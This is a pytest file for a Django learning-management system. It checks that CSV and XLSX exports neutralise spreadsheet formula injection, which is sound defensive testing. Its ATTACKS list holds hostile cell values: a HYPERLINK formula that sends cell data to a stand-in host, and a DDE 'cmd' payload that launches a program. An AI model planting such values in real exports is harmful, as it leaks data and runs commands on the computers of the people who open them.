"""Spreadsheets never run what a cell says: CSV cells that start like a formula get a quote,
XLSX text cells are strings (never formulas) with their text unchanged."""

import csv
import io
import zipfile

import openpyxl
import pytest
from django.urls import reverse

from lms.exports import safe_cell, write_csv, write_xlsx
from tests.factories import PersonFactory

ATTACKS = [
    '=HYPERLINK("http://x.example/?leak="&A1,"Click")',
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "  =cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_triggers_get_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Ñañez Quispe", "", "a=b", "user@example.pe", 5, -5, None])
def test_other_values_are_untouched(value):
    assert safe_cell(value) == value


def test_csv_is_utf8_with_bom_and_every_trigger_neutralised():
    data = write_csv([[text, -5, "Ñuñoa, Lima"] for text in ATTACKS], ["texto", "n", "lugar"])

    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[0] == ["texto", "n", "lugar"]
    for row, text in zip(rows[1:], ATTACKS, strict=True):
        assert row[0] == "'" + text
        assert row[1] == "-5"  # a number stays a number
        assert row[2] == "Ñuñoa, Lima"  # the comma stays inside its cell


def test_xlsx_cells_are_strings_with_the_text_unchanged_and_no_formula():
    data = write_xlsx([[text, 7] for text in ATTACKS], ["texto", "n"])

    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    for row, text in zip(sheet.iter_rows(min_row=2), ATTACKS, strict=True):
        assert row[0].data_type == "s"
        assert row[0].value == text
        assert row[1].value == 7
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml and b"<f " not in xml


@pytest.mark.django_db
def test_the_participants_export_in_the_admin_neutralises_too(client, staff_user):
    PersonFactory(phone="+51 987 654 321", email="-x@example.pe")
    client.force_login(staff_user)

    response = client.get(reverse("participants:index") + "?export=csv")

    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert "'+51 987 654 321" in text


@pytest.mark.django_db
def test_the_enrolments_export_in_the_admin_neutralises_too(client, staff_user):
    from courses.models import Enrolment
    from tests.courses.factories import build_course

    course, _lessons = build_course(code="EXP-1")
    person = PersonFactory(given_names='=HYPERLINK("http://x")', family_names="Quispe")
    Enrolment.objects.create(person=person, course=course)
    client.force_login(staff_user)

    response = client.get(reverse("enrolments:index") + "?export=csv")

    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    assert "'=HYPERLINK" in text
    assert ",=HYPERLINK" not in text and '"=HYPERLINK' not in text
